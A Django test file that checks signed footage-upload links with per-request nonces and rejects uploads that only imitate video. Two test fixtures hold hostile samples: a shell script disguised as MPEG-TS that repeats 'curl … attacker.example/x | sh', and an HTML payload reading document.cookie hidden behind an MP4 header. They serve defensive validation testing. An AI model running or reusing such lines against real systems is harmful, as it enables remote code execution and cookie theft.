"""Owners' footage upload links: each carries its request's own nonce, and only real video is stored.

A link signed from a request's number alone (what anyone holding the signing key could make) is refused
for every request made since links carried a nonce. An upload is stored only when ffprobe finds a picture
stream in a container we accept: a script named .ts and a web page behind an MP4 header are refused,
with a message, and nothing is written to the library.
"""

import subprocess
from datetime import timedelta

import pytest
from django.core import signing
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from footage.models import FootageClip
from registry import links, services
from registry.choices import FootageRequestStatus
from tests.factories import incident
from tests.registry_helpers import CommitClient, committed, make_site

pytestmark = pytest.mark.django_db


@pytest.fixture
def client():
    return CommitClient()


@pytest.fixture
def footage_request(users):
    site = make_site()
    with committed():
        [request] = services.footage_request_create(
            incident=incident(),
            registered_cameras=[site.cameras.get()],
            window_start=timezone.now() - timedelta(hours=2),
            window_end=timezone.now() - timedelta(hours=1),
            deadline=timezone.now() + timedelta(hours=48),
            message="",
            requested_by=users["analyst"],
        )
    return request


def upload_path(token):
    return reverse("registry-public:upload", args=[token])


def decline_path(token):
    return reverse("registry-public:decline", args=[token])


def minted_without_nonce(request):
    """What the old links were: the request's number, signed. Anyone with the signing key could make one."""
    return signing.dumps({"request": request.pk}, salt=links.UPLOAD, compress=True)


def test_every_new_request_has_its_own_nonce_in_its_link(footage_request, users):
    assert len(footage_request.link_nonce) >= 16
    other = make_site(email="other@example.org")
    with committed():
        [second] = services.footage_request_create(
            incident=footage_request.incident,
            registered_cameras=[other.cameras.get()],
            window_start=footage_request.window_start,
            window_end=footage_request.window_end,
            deadline=footage_request.deadline,
            message="",
            requested_by=users["analyst"],
        )
    assert second.link_nonce != footage_request.link_nonce
    payload = signing.loads(links.upload_token(footage_request), salt=links.UPLOAD)
    assert payload == {"request": footage_request.pk, "nonce": footage_request.link_nonce}


def test_a_link_minted_from_the_request_number_alone_is_refused_for_upload_and_decline(client, footage_request):
    forged = minted_without_nonce(footage_request)
    assert client.get(upload_path(forged)).status_code == 410
    assert client.post(decline_path(forged), {"reason": "no"}).status_code == 410
    footage_request.refresh_from_db()
    assert footage_request.status == FootageRequestStatus.SENT  # not even marked opened
    # The real link still works.
    assert client.get(upload_path(links.upload_token(footage_request))).status_code == 200


def test_a_link_with_another_requests_nonce_is_refused(client, footage_request):
    wrong = signing.dumps({"request": footage_request.pk, "nonce": "x" * 22}, salt=links.UPLOAD, compress=True)
    assert client.get(upload_path(wrong)).status_code == 410
    assert client.post(decline_path(wrong)).status_code == 410


def test_a_request_made_before_links_carried_a_nonce_keeps_its_old_link(client, footage_request):
    """Such requests were given an empty nonce by the migration; their links, sent already, carry none."""
    type(footage_request).objects.filter(pk=footage_request.pk).update(link_nonce="")
    footage_request.refresh_from_db()
    old_link = minted_without_nonce(footage_request)
    assert client.get(upload_path(old_link)).status_code == 200
    assert client.post(decline_path(old_link), {"reason": "Not recording that night"}).status_code == 200
    footage_request.refresh_from_db()
    assert footage_request.status == FootageRequestStatus.DECLINED


# --- Only real video ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def real_clip(tmp_path_factory):
    """A real one-second H.264 MP4, made by ffmpeg."""
    out = tmp_path_factory.mktemp("video") / "porch.mp4"
    subprocess.run(
        ["ffmpeg", "-loglevel", "error", "-f", "lavfi", "-i", "testsrc=size=320x240:rate=10", "-t", "1"]
        + ["-pix_fmt", "yuv420p", "-c:v", "libx264", str(out)],
        check=True,
        timeout=60,
    )
    return out.read_bytes()


def script_named_ts():
    """A shell script whose bytes pass a first-bytes check for MPEG-TS (0x47 at 0 and at 188)."""
    body = bytearray(b"G\n#!/bin/sh\n" + b"curl -s http://attacker.example/x | sh\n" * 12)
    body[188] = ord("G")
    return bytes(body)


def html_behind_an_mp4_header():
    return b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"<html><script>alert(document.cookie)</script>" * 8


def test_a_real_clip_made_by_ffmpeg_is_accepted(client, footage_request, real_clip):
    response = client.post(
        upload_path(links.upload_token(footage_request)), {"video": SimpleUploadedFile("porch.mp4", real_clip)}
    )
    assert response.status_code == 200, response.content.decode()[:500]
    clip = FootageClip.objects.get()
    assert clip.content_type == "video/mp4"


@pytest.mark.parametrize(
    "name, content",
    [("capture.ts", script_named_ts()), ("porch.mp4", html_behind_an_mp4_header())],
    ids=["script-named-ts", "html-after-mp4-header"],
)
def test_a_file_that_only_looks_like_video_is_refused_and_nothing_is_stored(
    client, footage_request, media, name, content
):
    from registry.validation import sniff_video

    assert sniff_video(content[:256]) is not None  # the first bytes alone would have let it in
    link = upload_path(links.upload_token(footage_request))
    response = client.post(link, {"video": SimpleUploadedFile(name, content)})
    assert response.status_code == 400
    assert f"“{name}” does not look like a video file" in response.content.decode()
    assert not FootageClip.objects.exists()
    stored = [p for p in (media / "media").rglob("*") if p.is_file()] if (media / "media").exists() else []
    assert stored == []
    footage_request.refresh_from_db()
    assert footage_request.status != FootageRequestStatus.UPLOADED


@pytest.mark.django_db(transaction=True)
def test_the_migration_gives_older_requests_an_empty_nonce_and_keeps_approved_feeds_reviewed():
    """Requests made before the change keep their (nonce-less) links; approved shared streams stay read."""
    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor

    from registry.models import FootageRequest, RegisteredCamera

    before = [("registry", "0004_footage_request_clips_in_footage_app")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old = MigrationExecutor(connection).loader.project_state(before).apps
    site = old.get_model("registry", "RegisteredSite").objects.create(
        owner_name="A", email="a@example.org", address="1 Royal St", latitude=29.95, longitude=-90.06, status="approved"
    )
    cams = old.get_model("registry", "RegisteredCamera").objects
    fields = {"site": site, "latitude": 29.95, "longitude": -90.06, "retention_days": 7}
    shared = cams.create(placement="Porch", shares_live_feed=True, stream_url="rtsp://192.0.2.7/live", **fields)
    unshared = cams.create(placement="Yard", shares_live_feed=False, stream_url="rtsp://192.0.2.8/live", **fields)
    kind = old.get_model("incidents", "IncidentType").objects.create(slug="theft", name="Theft")
    inc = old.get_model("incidents", "Incident").objects.create(
        incident_type=kind, title="Theft", latitude=29.95, longitude=-90.06
    )
    now = timezone.now()
    request = old.get_model("registry", "FootageRequest").objects.create(
        incident=inc,
        registered_camera=shared,
        window_start=now - timedelta(hours=2),
        window_end=now - timedelta(hours=1),
        deadline=now + timedelta(hours=24),
        status="sent",
    )
    executor = MigrationExecutor(connection)
    executor.migrate(executor.loader.graph.leaf_nodes())

    migrated = FootageRequest.objects.get(pk=request.pk)
    assert migrated.link_nonce == ""
    assert links.request_for_upload(minted_without_nonce(migrated)).pk == request.pk
    assert RegisteredCamera.objects.get(pk=shared.pk).reviewed_stream_url == "rtsp://192.0.2.7/live"
    assert RegisteredCamera.objects.get(pk=unshared.pk).reviewed_stream_url == ""
